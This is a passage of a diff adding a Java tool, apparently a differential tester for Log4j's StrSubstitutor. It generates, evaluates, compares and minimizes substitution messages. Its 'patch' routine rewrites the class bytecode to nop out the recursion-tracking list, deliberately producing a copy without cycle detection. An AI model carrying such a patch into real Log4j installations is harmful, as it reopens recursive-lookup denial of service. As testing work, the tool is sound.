+    private static List<Integer> find(final byte[] b, final int[] pat) {
+        final List<Integer> hits = new ArrayList<>();
+        outer:
+        for (int i = 0; i + pat.length <= b.length; i++) {
+            for (int j = 0; j < pat.length; j++) {
+                if (pat[j] >= 0 && (b[i + j] & 255) != pat[j]) {
+                    continue outer;
+                }
+            }
+            hits.add(i);
+        }
+        return hits;
+    }
+
+    static byte[] patchStrSubstitutor(final byte[] b) {
+        if (u2(b, 0) != 0xCAFE || u2(b, 2) != 0xBABE) {
+            throw new IllegalArgumentException("not a class file");
+        }
+        final int n = u2(b, 8);
+        final int[] off = new int[n];
+        final int[] tag = new int[n];
+        int at = 10;
+        for (int i = 1; i < n; i++) {
+            off[i] = at;
+            tag[i] = b[at] & 255;
+            switch (tag[i]) {
+            case 1:
+                at += 3 + u2(b, at + 1);
+                break;
+            case 3: case 4: case 9: case 10: case 11: case 12: case 17: case 18:
+                at += 5;
+                break;
+            case 5: case 6:
+                at += 9;
+                i++;
+                break;
+            case 7: case 8: case 16: case 19: case 20:
+                at += 3;
+                break;
+            case 15:
+                at += 4;
+                break;
+            default:
+                throw new IllegalArgumentException("constant pool tag " + tag[i]);
+            }
+        }
+        final java.util.function.IntFunction<String> utf8 = i -> new String(b, off[i] + 3, u2(b, off[i] + 1),
+                StandardCharsets.UTF_8);
+        final java.util.function.IntFunction<String> className = i -> utf8.apply(u2(b, off[i] + 1));
+        int selfRef = -1;
+        int listClass = -1;
+        int listInit = -1;
+        for (int i = 1; i < n; i++) {
+            if (tag[i] == 7 && className.apply(i).equals("java/util/ArrayList")) {
+                listClass = i;
+            }
+            if (tag[i] != 10) {
+                continue;
+            }
+            final String cls = className.apply(u2(b, off[i] + 1));
+            final int nt = u2(b, off[i] + 3);
+            final String name = utf8.apply(u2(b, off[nt] + 1));
+            final String desc = utf8.apply(u2(b, off[nt] + 3));
+            if (cls.equals(SUBST_CLASS) && name.equals("substitute") && desc.equals(SUBST_DESC)) {
+                selfRef = i;
+            }
+            if (cls.equals("java/util/ArrayList") && name.equals("<init>") && desc.equals("()V")) {
+                listInit = i;
+            }
+        }
+        if (selfRef < 0 || listClass < 0 || listInit < 0) {
+            throw new IllegalStateException("constant pool entries not found");
+        }
+        /* aload 5; ifnonnull L; new ArrayList; dup; invokespecial <init>; astore 5 */
+        final List<Integer> alloc = find(b, new int[] {0x19, 5, 0xc7, -1, -1, 0xbb, listClass >> 8, listClass & 255,
+            0x59, 0xb7, listInit >> 8, listInit & 255, 0x3a, 5});
+        /* aload 5; invokespecial|invokevirtual substitute(...List)I */
+        final List<Integer> call = find(b, new int[] {0x19, 5, -1, selfRef >> 8, selfRef & 255});
+        call.removeIf(i -> (b[i + 2] & 255) != 0xb7 && (b[i + 2] & 255) != 0xb6);
+        if (alloc.size() != 2 || call.size() != 2 || alloc.get(0) > call.get(0)) {
+            throw new IllegalStateException("unexpected StrSubstitutor bytecode: " + alloc + " " + call);
+        }
+        final byte[] out = b.clone();
+        for (int k = 5; k < 14; k++) {
+            out[alloc.get(0) + k] = 0; /* nop */
+        }
+        out[call.get(0)] = 0x01; /* aconst_null */
+        out[call.get(0) + 1] = 0; /* nop */
+        return out;
+    }
+
+    private static void patch(final String jar, final String outDir) throws IOException {
+        final String entry = SUBST_CLASS + ".class";
+        final byte[] b;
+        try (java.util.zip.ZipFile z = new java.util.zip.ZipFile(jar)) {
+            final java.util.zip.ZipEntry e = z.getEntry(entry);
+            if (e == null) {
+                throw new IOException(jar + ": no " + entry);
+            }
+            try (java.io.InputStream in = z.getInputStream(e)) {
+                b = in.readAllBytes();
+            }
+        }
+        final java.nio.file.Path p = Paths.get(outDir, entry);
+        Files.createDirectories(p.getParent());
+        Files.write(p, patchStrSubstitutor(b));
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* main                                                              */
+    /* ---------------------------------------------------------------- */
+
+    private static BufferedReader stdin() {
+        return new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8), 1 << 16);
+    }
+
+    private static BufferedWriter stdout() {
+        return new BufferedWriter(new OutputStreamWriter(System.out, StandardCharsets.UTF_8), 1 << 16);
+    }
+
+    private static void usage() {
+        System.err.println("usage: Log4jDiff gen SEED COUNT | tohex | eval | show | version | patch CORE_JAR OUTDIR"
+                + " | minimize DEFUSE_EVAL"
+                + " | compare CASES EXPECTED GOT [MAX]");
+        System.exit(2);
+    }
+
+    public static void main(final String[] a) throws Exception {
+        if (a.length < 1) {
+            usage();
+        }
+        switch (a[0]) {
+        case "gen": {
+            if (a.length != 3) {
+                usage();
+            }
+            final Gen g = new Gen(Long.parseLong(a[1]));
+            final long n = Long.parseLong(a[2]);
+            try (BufferedWriter w = stdout()) {
+                for (long i = 0; i < n; i++) {
+                    w.write(hex(g.message()));
+                    w.write('\n');
+                }
+            }
+            break;
+        }
+        case "tohex": {
+            try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
+                String l;
+                while ((l = rd.readLine()) != null) {
+                    if (l.isEmpty() || l.startsWith("#")) {
+                        continue;
+                    }
+                    w.write(hex(l));
+                    w.write('\n');
+                }
+            }
+            break;
+        }
+        case "show": {
+            try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
+                String l;
+                while ((l = rd.readLine()) != null) {
+                    w.write(show(unhex(l.trim())));
+                    w.write('\n');
+                }
+            }
+            break;
+        }
+        case "patch":
+            if (a.length != 3) {
+                usage();
+            }
+            patch(a[1], a[2]);
+            break;
+        case "minimize": {
+            if (a.length != 2) {
+                usage();
+            }
+            final Throwable[] fail = new Throwable[1];
+            final Thread t = new Thread(null, () -> {
+                try {
+                    minimizeAll(a[1]);
+                } catch (final Throwable e) {
+                    fail[0] = e;
+                }
+            }, "minimize", 64L << 20);
+            t.start();
+            t.join();
+            if (fail[0] != null) {
+                fail[0].printStackTrace();
+                System.exit(2);
+            }
+            break;
+        }
+        case "version":
+            System.out.println(version());
+            break;
+        case "eval": {
+            final Log4jDiff o = new Log4jDiff();
+            /* A big stack so that a StackOverflowError means a runaway
+             * recursion, not a deep but finite payload. */
+            final Throwable[] fail = new Throwable[1];
+            final Thread t = new Thread(null, () -> {
+                try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
+                    String l;
+                    while ((l = rd.readLine()) != null) {
+                        w.write(o.evaluate(unhex(l.trim())));
+                        w.write('\n');
+                    }
+                } catch (final Throwable e) {
+                    fail[0] = e;
+                }
+            }, "eval", 64L << 20);
+            t.start();
+            t.join();
+            if (fail[0] != null) {
+                fail[0].printStackTrace();
+                System.exit(2);
+            }
+            break;
+        }
+        case "compare":
+            if (a.length < 4) {
+                usage();
+            }
+            System.exit(compare(a));
+            break;
+        default:
+            usage();
+        }
+    }
+}
